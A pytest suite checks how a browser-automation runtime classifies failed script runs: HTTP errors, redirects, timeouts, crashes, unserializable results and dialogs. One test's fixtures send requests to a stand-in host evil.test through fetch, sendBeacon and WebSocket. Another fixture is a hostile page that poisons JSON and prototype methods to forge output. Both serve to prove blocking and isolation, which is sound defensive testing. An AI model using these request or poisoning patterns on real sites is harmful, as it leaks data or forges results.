"""What can go wrong around a run, one cell each: the kind and the reason, and no page left over (`once` proves it)."""

from __future__ import annotations

import asyncio
import json
import time
from typing import Any

import pytest

from adapterc.runtime import Adapter, Browser, RunResult, run
from tests.support.chromium import Chromium, find
from tests.support.runs import close_page, function, handmade, inside, once, pages
from tests.support.site import Site

SHOP = "https://shop.test/"
GRACE = 1.5
"""Half a second is promised on an idle machine (`bench/runs.py`); a busy one gets more."""
OK = "return { ok: true, data: { a: 1 }, source_url: location.href };"
SLEEP = "await new Promise((resolve) => setTimeout(resolve, 30000)); return { ok: true, data: 1 };"
HTML = {"Content-Type": "text/html; charset=utf-8"}


def kind(result: RunResult) -> tuple[str | None, str | None]:
    assert not result.ok, result
    assert result.data["reason"] == result.reason
    return result.error_code, result.reason


def data(body: str) -> str:
    return f"return {{ ok: true, data: {body}, source_url: location.href }};"


@pytest.fixture(autouse=True)
def shop(site: Site) -> None:
    site.page(SHOP, "<!doctype html><title>shop</title><p class=row>1", csp=None)


# --- the entry -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "headers", "expected"),
    [
        (401, {}, ("auth_required", "login_required")),
        (403, {}, ("auth_required", "forbidden_role")),
        (403, {"cf-mitigated": "challenge"}, ("site_unreachable", "blocked")),
        (404, {}, ("adapter_runtime_error", "not_found")),
        (410, {}, ("adapter_runtime_error", "not_found")),
        (429, {}, ("site_unreachable", "rate_limited")),
        (418, {}, ("site_unreachable", "http_error")),
        (503, {}, ("site_unreachable", "http_error")),
    ],
)
def test_the_status_of_a_page_that_is_read(
    chromium: Chromium, site: Site, status: int, headers: dict[str, str], expected: tuple[str, str]
) -> None:
    site.add(SHOP, "<title>no</title>", status=status, headers={**HTML, **headers})
    result = once(chromium, handmade(OK, dom=("read",)))
    assert kind(result) == expected
    assert result.data["http_status"] == status
    assert (result.auth_hint is not None) == (result.reason == "login_required")


def test_a_script_that_only_asks_stands_on_any_page(chromium: Chromium, site: Site) -> None:
    site.add(SHOP, "<title>no</title>", status=404, headers=HTML)
    assert once(chromium, handmade(OK)).data == {"a": 1}


@pytest.mark.parametrize("status", [204, 205])
def test_an_entry_without_a_page(chromium: Chromium, site: Site, status: int) -> None:
    site.add(SHOP, status=status)
    result = once(chromium, handmade(OK))
    assert kind(result) == ("adapter_runtime_error", "unexpected_response")
    assert result.detail == f"the entry was answered with status {status} and no page"


def test_an_entry_that_is_a_download(chromium: Chromium, site: Site) -> None:
    site.add(SHOP, "x", headers={"Content-Disposition": "attachment; filename=x.bin"})
    result = once(chromium, handmade(OK))
    assert kind(result) == ("adapter_runtime_error", "unexpected_response")
    assert result.detail == "the entry was answered with a download"


def test_a_name_that_does_not_resolve(chromium: Chromium) -> None:
    result = once(chromium, handmade(OK, url="https://nx.invalid/", domain="nx.invalid"))
    assert kind(result) == ("site_unreachable", "dns")
    assert result.detail == "nx.invalid: the name has no address (net::ERR_NAME_NOT_RESOLVED)"


def test_a_page_that_never_answers(chromium: Chromium, site: Site) -> None:
    site.add(SHOP, "late", headers=HTML, delay_ms=4000)
    began = time.monotonic()
    result = once(chromium, handmade(OK), deadline=1.0)
    assert kind(result) == ("site_unreachable", "timeout_navigation")
    assert time.monotonic() - began < 1.0 + GRACE + 0.5  # and a connection


@pytest.mark.parametrize(
    ("location", "expected"),
    [
        ("https://shop.test/signin?next=/", ("auth_required", "login_redirect")),
        ("https://accounts.shop.test/?continue=/", ("auth_required", "login_redirect")),
        ("https://login.other.test/", ("auth_required", "login_redirect")),
        ("https://other.test/", ("adapter_runtime_error", "forbidden_host")),
        ("https://shop.test.other.test/", ("adapter_runtime_error", "forbidden_host")),
        ("http://shop.test/", ("adapter_runtime_error", "forbidden_host")),
        ("https://127.0.0.1/", ("adapter_runtime_error", "forbidden_host")),
        ("https://shop.test/captcha", ("site_unreachable", "blocked")),
    ],
)
@pytest.mark.parametrize("how", ["header", "script"])
def test_where_a_redirect_ends(
    chromium: Chromium, site: Site, location: str, expected: tuple[str, str], how: str
) -> None:
    site.fallback = lambda request: None
    for url in ("https://shop.test/signin", "https://accounts.shop.test/?continue=/", "https://login.other.test/"):
        site.page(url, "<title>in</title><input type=password>", csp=None)
    site.page("https://shop.test/captcha", csp=None)
    start = "https://shop.test/start"
    if how == "header":
        site.add(start, status=302, headers={"Location": location})
    else:
        site.page(start, f"<script>location.replace({json.dumps(location)})</script><p>", csp=None)
    result = once(chromium, handmade(data("location.href"), url=start))
    assert kind(result) == expected
    assert result.data["asked"] == start
    if result.reason == "forbidden_host":
        host = location.split("/")[2]
        assert result.data["host"] == host
        if host != "shop.test":
            assert not [request for request in site.log if request.host == host]


def test_a_redirect_inside_the_site_and_through_a_login_page_is_followed(chromium: Chromium, site: Site) -> None:
    site.add("https://shop.test/start", status=302, headers={"Location": "https://sso.other.test/go"})
    site.add("https://sso.other.test/go", status=302, headers={"Location": "https://www.shop.test/home"})
    site.page("https://www.shop.test/home", csp=None)
    result = once(chromium, handmade(data("location.href"), url="https://shop.test/start"))
    assert result.data == "https://www.shop.test/home"
    assert result.effects_observed.redirects == ["https://sso.other.test/go", "https://www.shop.test/home"]


# --- the script ------------------------------------------------------------------------------------------------------


async def _timed(browser: Browser, adapter: Adapter, **options: Any) -> tuple[RunResult, float]:
    before = await pages(browser)
    began = time.monotonic()
    result = await run(adapter, {}, browser, **options)
    took = time.monotonic() - began
    assert await pages(browser) == before
    return result, took


@pytest.mark.parametrize("world", ["isolated", "main"])
@pytest.mark.parametrize(
    "body",
    [
        "for (;;);",
        "await 0; for (;;);",
        "await new Promise((resolve) => setTimeout(resolve, 20)); for (;;);",
        "await new Promise(() => {});",
    ],
)
def test_what_never_ends(chromium: Chromium, body: str, world: str) -> None:
    result, took = inside(chromium, lambda browser: _timed(browser, handmade(body, world=world), deadline=1.0))
    assert kind(result) == ("adapter_runtime_error", "timeout_script")
    assert 1.0 <= took < 1.0 + GRACE
    assert result.detail == "the script did not end within 1 s"


def test_dialogs_without_end(chromium: Chromium) -> None:
    result, took = inside(chromium, lambda browser: _timed(browser, handmade("for (;;) alert('again');"), deadline=5.0))
    assert kind(result) == ("adapter_runtime_error", "dialog_open")
    assert took < 5.0
    assert result.detail == "one dialog after another, the last one: again"


READS: dict[str, Any] = {"hosts": ("shop.test",), "methods": ("GET",)}
WRITES: dict[str, Any] = {"writes": ("POST shop.test/api",), "hosts": ("shop.test",), "methods": ("POST",)}
BEGUN = "await fetch('/begun'); "


@pytest.mark.parametrize("writes", [False, True])
def test_the_page_goes_on_while_the_script_runs(chromium: Chromium, site: Site, writes: bool) -> None:
    site.page("https://shop.test/next", csp=None)
    body = f"location.href = '/next'; {SLEEP}"
    result = once(chromium, handmade(body, **(WRITES if writes else {})))
    expected = ("adapter_runtime_error", "outcome_unknown") if writes else ("no_matching_context", "page_not_ready")
    assert kind(result) == expected


@pytest.mark.parametrize("writes", [False, True])
def test_a_write_that_times_out_is_unknown_and_sent_once(chromium: Chromium, site: Site, writes: bool) -> None:
    site.json("https://shop.test/api", {"ok": 1})
    method = "POST" if writes else "GET"
    body = f"await fetch('/api', {{ method: {method!r} }}); {SLEEP}"
    record = WRITES if writes else {"hosts": ("shop.test",), "methods": ("GET",)}
    result = once(chromium, handmade(body, **record), deadline=1.0)
    assert kind(result) == ("adapter_runtime_error", "outcome_unknown" if writes else "timeout_script")
    assert len(site.requests("/api")) == 1


async def _begun(site: Site) -> None:
    """Once a script that starts with `BEGUN` is at work."""
    while not site.requests("/begun"):
        await asyncio.sleep(0.02)


async def _meanwhile(browser: Browser, site: Site, adapter: Adapter, method: str) -> RunResult:
    """A run, and a command of somebody else's session on its page once the script is at work."""
    before = await pages(browser)
    running = asyncio.create_task(run(adapter, {}, browser))
    await _begun(site)
    (target,) = set(await pages(browser)) - set(before)
    if method == "Page.crash":
        session = await browser.connection.attach(target, timeout=5)
        asyncio.ensure_future(session.call("Page.crash", timeout=5)).add_done_callback(lambda task: task.exception())
    else:
        await browser.connection.browser.call(method, {"targetId": target}, timeout=5)
    began = time.monotonic()
    result = await running
    assert time.monotonic() - began < 1.5
    assert await pages(browser) == before
    return result


@pytest.mark.parametrize(
    ("method", "reading"),
    [
        ("Target.closeTarget", ("no_matching_context", "tab_closed")),
        ("Page.crash", ("adapter_runtime_error", "tab_crashed")),
    ],
)
@pytest.mark.parametrize("writes", [False, True])
def test_the_page_is_closed_or_crashes(
    chromium: Chromium, site: Site, method: str, reading: tuple[str, str], writes: bool
) -> None:
    adapter = handmade(BEGUN + SLEEP, **(WRITES if writes else READS))
    result = inside(chromium, lambda browser: _meanwhile(browser, site, adapter, method))
    assert kind(result) == (("adapter_runtime_error", "outcome_unknown") if writes else reading)


def test_the_browser_is_killed(site: Site) -> None:
    executable = find()
    if executable is None:
        pytest.skip("no Chromium found")
    with Chromium(executable, http_port=site.http_port, https_port=site.https_port) as chromium:

        async def work(browser: Browser) -> RunResult:
            running = asyncio.create_task(run(handmade(BEGUN + SLEEP, **READS), {}, browser))
            await _begun(site)
            chromium.close()
            return await asyncio.wait_for(running, 2.0)

        result = inside(chromium, work)
    assert kind(result) == ("no_matching_context", "browser_unavailable")


def test_the_socket_is_cut_and_the_next_run_connects_again(chromium: Chromium) -> None:
    async def work(browser: Browser) -> tuple[RunResult, RunResult, list[str], list[str]]:
        before = await pages(browser)

        async def after() -> list[str]:
            async with await Browser.connect(chromium.endpoint, profile="default") as other:
                return await pages(other)

        running = asyncio.create_task(run(handmade(SLEEP), {}, browser))
        await asyncio.sleep(1.0)
        await browser.connection.close()
        cut, left = await running, await after()
        again = await run(handmade(OK), {}, browser)
        return cut, again, before, left

    cut, again, before, left = inside(chromium, work)
    assert kind(cut) == ("no_matching_context", "browser_unavailable")
    assert cut.data["cause"] == "lost"
    assert again.data == {"a": 1}
    assert left == before


def test_cancelling_closes_the_page(chromium: Chromium) -> None:
    async def work(browser: Browser) -> None:
        before = await pages(browser)
        for wait in (0.0, 0.005, 0.02, 0.05, 0.1, 0.2, 0.5):
            running = asyncio.create_task(run(handmade(SLEEP), {}, browser))
            await asyncio.sleep(wait)
            running.cancel()
            with pytest.raises(asyncio.CancelledError):
                await running
            assert await pages(browser) == before

    inside(chromium, work)


# --- what it touches -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "host"),
    [
        ("await fetch('https://evil.test/x', { mode: 'no-cors' }).catch(() => 0);", "evil.test"),
        ("const r = new XMLHttpRequest(); r.open('GET', 'https://evil.test/x'); r.send();", "evil.test"),
        ("navigator.sendBeacon('https://evil.test/x', 'a');", "evil.test"),
        ("new WebSocket('wss://evil.test/x');", "evil.test"),
        ("await fetch('/away').catch(() => 0);", "evil.test"),
        ("await fetch('/api', { method: 'DELETE' }).catch(() => 0);", "shop.test"),
        ("setTimeout(() => fetch('https://evil.test/x').catch(() => 0), 50);", "evil.test"),
        ("location.href = 'https://evil.test/x';", "evil.test"),
    ],
)
def test_a_request_outside_the_record_ends_the_run(chromium: Chromium, site: Site, body: str, host: str) -> None:
    site.add("https://shop.test/away", status=302, headers={"Location": "https://evil.test/x"})
    site.json("https://shop.test/api", {})
    site.json("https://evil.test/x", {}, cors=True)
    began = time.monotonic()
    result = once(chromium, handmade(f"{body} {SLEEP}", hosts=("shop.test",), methods=("GET",)))
    assert kind(result) == ("adapter_runtime_error", "forbidden_host")
    assert result.data["host"] == host
    assert time.monotonic() - began < 5


def test_requests_of_the_page_are_its_own(chromium: Chromium, site: Site) -> None:
    site.page(SHOP, "<script>setInterval(() => fetch('https://cdn.test/x').catch(() => 0), 20)</script>", csp=None)
    site.json("https://shop.test/api", {"a": 1})
    body = "const r = await fetch('/api'); await new Promise((f) => setTimeout(f, 200)); " + data("await r.json()")
    result = once(chromium, handmade(body, hosts=("shop.test",), methods=("GET",)))
    assert result.data == {"a": 1}
    observed = result.effects_observed
    assert (observed.hosts, observed.methods, observed.requests) == (["shop.test"], ["GET"], 1)


# --- the result ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("world", ["isolated", "main"])
@pytest.mark.parametrize(
    ("body", "expected", "notes"),
    [
        ("{ d: new Date(0), m: new Map([['a', 1]]) }", {"d": "1970-01-01T00:00:00.000Z", "m": {"a": 1}}, []),
        ("{ s: new Set([1, 2]), u: new URL('https://a.test/x') }", {"s": [1, 2], "u": "https://a.test/x"}, []),
        ("12345678901234567890n", "12345678901234567890", []),
        ("[NaN, undefined, null]", [None, None, None], ["result.data[0] was NaN, now null"]),
        ("{ a: undefined, b: [, 1], ['__proto__']: 7 }", {"b": [None, 1], "__proto__": 7}, []),
        ("'abc\\ud83d'", "abc\ufffd", []),
        ("{ t: 'a\\u0000b', e: '😀' }", {"t": "a\0b", "e": "😀"}, []),
    ],
)
def test_values_that_json_has_no_word_for(
    chromium: Chromium, body: str, expected: object, notes: list[str], world: str
) -> None:
    result = once(chromium, handmade(data(body), world=world))
    assert result.data == expected
    assert [warned.text for warned in result.warnings] == notes


@pytest.mark.parametrize("world", ["isolated", "main"])
@pytest.mark.parametrize(
    ("body", "detail"),
    [
        ("{ items: [1, { n: document.body }] }", "result.data.items[1].n is of the type HTMLBodyElement"),
        ("{ f: () => 1 }", "result.data.f is a function"),
        ("{ s: Symbol('x') }", "result.data.s is a symbol"),
        ("(() => { const a = {}; a.a = { b: a }; return a; })()", "result.data.a.b refers back to itself"),
        ("{ get x() { throw new Error('no'); } }", "a value of the result cannot be read: Error: no"),
        ("{ r: /x/ }", "result.data.r is of the type RegExp"),
    ],
)
def test_values_that_cannot_leave(chromium: Chromium, body: str, detail: str, world: str) -> None:
    result = once(chromium, handmade(data(body), world=world))
    assert kind(result) == ("adapter_runtime_error", "not_serializable")
    assert result.detail == detail


@pytest.mark.parametrize("thrown", ["{ $stop: 'no reason' }", "undefined", "null", "{ stop: 7, detail: {} }"])
def test_a_getter_cannot_choose_why_a_value_cannot_leave(chromium: Chromium, thrown: str) -> None:
    result = once(chromium, handmade(data(f"{{ get x() {{ throw {thrown}; }} }}")))
    assert kind(result) == ("adapter_runtime_error", "not_serializable")
    assert str(result.detail).startswith("a value of the result cannot be read: ")


@pytest.mark.parametrize("reason", ["['not_found']", "{}", "7", "'made up'"])
def test_a_failure_of_any_form_is_one_result(chromium: Chromium, reason: str) -> None:
    body = f"return {{ ok: false, data: {{ reason: {reason}, detail: 'x', self: 1, data: 2, why: 3 }} }};"
    result = once(chromium, handmade(body))
    assert kind(result) == ("adapter_runtime_error", "script_error")
    assert (result.data["self"], result.data["data"], result.data["why"]) == (1, 2, 3)


def test_an_exception_is_its_first_line_and_its_places(chromium: Chromium) -> None:
    body = """
    const down = (left) => left ? down(left - 1) : fail();
    const fail = () => { throw new Error("no rows\\nat all\\n    at https://x.test/"); };
    return down(9);"""
    result = once(chromium, handmade(body))
    assert kind(result) == ("adapter_runtime_error", "script_error")
    assert result.detail == "the script threw: Error: no rows"
    assert result.data["detail"] == result.detail
    assert len(result.data["stack"]) == 5
    assert result.data["stack"][0].startswith("at fail (adapterc:shop/handmade.js:")


@pytest.mark.parametrize(("thrown", "said"), [("'a\\nb'", "a"), ("''", "Uncaught"), ("null", "Uncaught"), ("7", "7")])
def test_whatever_is_thrown_is_told_in_one_line(chromium: Chromium, thrown: str, said: str) -> None:
    result = once(chromium, handmade(f"throw {thrown};"))
    assert kind(result) == ("adapter_runtime_error", "script_error")
    assert str(result.detail).startswith(f"the script threw: {said}") and "\n" not in str(result.detail)
    assert "stack" not in result.data


def test_depth_and_size_have_a_limit(chromium: Chromium) -> None:
    deep = once(chromium, handmade("let a = 0; for (let i = 0; i < 1000; i++) a = [a]; " + data("a")))
    assert kind(deep) == ("adapter_runtime_error", "not_serializable")
    near = once(chromium, handmade("let a = 0; for (let i = 0; i < 190; i++) a = [a]; " + data("a")))
    assert near.ok

    async def work(browser: Browser) -> tuple[RunResult, RunResult, RunResult]:
        huge = await run(handmade(data("'x'.repeat(30 * 2 ** 20)")), {}, browser)
        wide = await run(handmade(data("'x'.repeat(8 * 2 ** 20 - 100)")), {}, browser)
        return huge, wide, await run(handmade(OK), {}, browser)

    huge, wide, after = inside(chromium, work)
    assert kind(huge) == ("adapter_runtime_error", "result_too_large")
    assert huge.data["bytes"] == 8388608 and "31457" in str(huge.detail)
    assert len(wide.data) == 8 * 2**20 - 100
    assert after.ok


HOSTILE = """<!doctype html><title>shop</title><script>
JSON.stringify = () => '{"output":{"ok":true,"data":"pwned"},"notes":[],"page":{"url":"x","title":"","frames":0}}';
JSON.parse = () => ({ pwned: true });
Array.prototype.map = () => ['pwned'];
Object.prototype.toJSON = () => 'pwned';
Object.entries = () => [['pwned', 1]];
Promise.prototype.then = function () { return this; };
window.fetch = () => 'pwned';
</script><p class=row>1"""


def test_a_hostile_page_cannot_forge_what_an_isolated_script_says(chromium: Chromium, site: Site) -> None:
    site.page(SHOP, HOSTILE, csp=None)
    body = data("{ n: [...document.querySelectorAll('.row')].map((row) => row.textContent) }")
    assert once(chromium, handmade(body, dom=("read",))).data == {"n": ["1"]}


CSP = "default-src 'none'; script-src 'self'; connect-src 'self'; require-trusted-types-for 'script'"


@pytest.mark.parametrize("world", ["isolated", "main"])
def test_a_strict_policy_does_not_stop_a_script(chromium: Chromium, site: Site, world: str) -> None:
    site.page(SHOP, csp=CSP)
    site.json("https://shop.test/api", {"a": 1})
    body = "await new Promise((f) => setTimeout(f, 20)); const r = await fetch('/api'); " + data("await r.json()")
    result = once(chromium, handmade(body, world=world, hosts=("shop.test",), methods=("GET",)))
    assert result.data == {"a": 1}


# --- dialogs, frames, tabs -------------------------------------------------------------------------------------------


def test_dialogs_of_the_page_and_of_the_script_are_answered_no(chromium: Chromium, site: Site) -> None:
    site.page(
        SHOP,
        "<script>setTimeout(() => alert('from the page'), 100); onbeforeunload = (e) => e.preventDefault()</script>",
        csp=None,
    )
    body = "await new Promise((f) => setTimeout(f, 400)); " + data("[confirm('sure?'), prompt('name?')]")
    result = once(chromium, handmade(body))
    assert result.data == [False, None]
    assert result.effects_observed.dialogs == ["from the page", "sure?", "name?"]
    assert [warned.code for warned in result.warnings] == ["dialog_dismissed"] * 3


def test_frames_are_named_when_nothing_was_found(chromium: Chromium, site: Site) -> None:
    site.page(SHOP, "<iframe src=/inner></iframe><iframe src='https://pay.test/inner'></iframe>", csp=None)
    site.page("https://shop.test/inner", "<p class=row>1", csp=None)
    site.page("https://pay.test/inner", "<p class=row>2", csp=None)
    body = "return [...document.querySelectorAll('.row')].map((row) => ({ t: row.textContent }));"
    result = once(chromium, function(body))
    assert result.data["count"] == 0
    assert [warned.text for warned in result.warnings] == [
        "2 frames on the page, 1 on another host; frames are not read"
    ]


def test_a_hidden_page_is_told_that_it_is_seen(chromium: Chromium) -> None:
    body = "await new Promise((f) => requestAnimationFrame(f)); " + data("document.visibilityState")
    assert once(chromium, handmade(body, dom=("read",))).data == "visible"


def test_pages_of_the_user_are_not_touched(chromium: Chromium, site: Site) -> None:
    site.page(
        "https://shop.test/busy", "<title>busy</title><script>setTimeout(() => alert('mine'), 100)</script>", csp=None
    )

    async def work(browser: Browser) -> None:
        call = browser.connection.browser.call
        made = [
            (await call("Target.createTarget", {"url": url}, timeout=10))["targetId"]
            for url in (SHOP, SHOP, "https://shop.test/busy")
        ]
        await asyncio.sleep(0.5)
        before = (await call("Target.getTargets", timeout=10))["targetInfos"]
        results = await asyncio.gather(*(run(handmade(OK), {}, browser) for _ in range(10)))
        assert all(result.ok for result in results)
        assert len({result.target_id for result in results}) == 10
        after = (await call("Target.getTargets", timeout=10))["targetInfos"]
        assert sorted(after, key=str) == sorted(before, key=str)
        for target in made:
            await close_page(browser, target)

    inside(chromium, work)


async def _user_page(browser: Browser, url: str) -> str:
    target: str = (await browser.connection.browser.call("Target.createTarget", {"url": url}, timeout=10))["targetId"]
    await asyncio.sleep(0.7)
    return target


@pytest.mark.parametrize(
    ("shown", "options", "expected"),
    [
        (SHOP, {}, None),
        ("https://other.test/", {}, ("no_matching_context", "wrong_origin")),
        ("https://shop.test/else", {}, ("no_matching_context", "wrong_origin")),
        ("https://shop.test/else", {"allow_navigate": True}, None),
        ("https://shop.test/ask", {}, ("site_unreachable", "timeout_navigation")),
    ],
)
def test_a_given_page_is_only_read(
    chromium: Chromium, site: Site, shown: str, options: dict[str, Any], expected: tuple[str, str] | None
) -> None:
    for url in ("https://other.test/", "https://shop.test/else"):
        site.page(url, csp=None)
    site.page("https://shop.test/ask", "<script>alert('open before')</script>", csp=None)

    async def work(browser: Browser) -> RunResult:
        target = await _user_page(browser, shown)
        result = await run(handmade(data("location.href"), dom=("read",)), {}, browser, target=target, **options)
        assert target in await pages(browser)
        assert result.target_id == target
        if not options:
            infos = (await browser.connection.browser.call("Target.getTargets", timeout=10))["targetInfos"]
            assert next(info["url"] for info in infos if info["targetId"] == target) == shown
        await close_page(browser, target)
        return result

    result = inside(chromium, work)
    if expected is None:
        assert result.data == SHOP
    else:
        assert kind(result) == expected


def test_a_target_that_is_no_page(chromium: Chromium) -> None:
    result = once(chromium, handmade(OK), target="0" * 32)
    assert kind(result) == ("no_matching_context", "no_tab")


def test_a_slow_page_is_read_when_its_data_is_there(chromium: Chromium, site: Site) -> None:
    html = (
        "<h1 id=t>loading</h1><script>(async () => {"
        "t.textContent = (await (await fetch('/slow')).json()).title })()</script>"
    )
    site.page(SHOP, html, csp=None)
    site.add("https://shop.test/slow", '{"title": "two"}', delay_ms=1000)
    result = once(chromium, function("return { title: document.querySelector('#t').textContent };"))
    assert result.data == {"title": "two"}
